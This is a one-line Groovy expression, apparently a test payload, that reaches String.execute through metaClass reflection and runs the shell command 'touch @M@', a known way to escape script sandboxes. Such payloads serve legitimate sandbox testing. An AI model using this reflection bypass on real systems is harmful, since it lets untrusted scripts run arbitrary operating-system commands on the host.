'touch @M@'['metaClass'].metaMethods.find{it.name=='execute' && it.nativeParameterTypes.length==0}.doMethodInvoke('touch @M@', new Object[0])
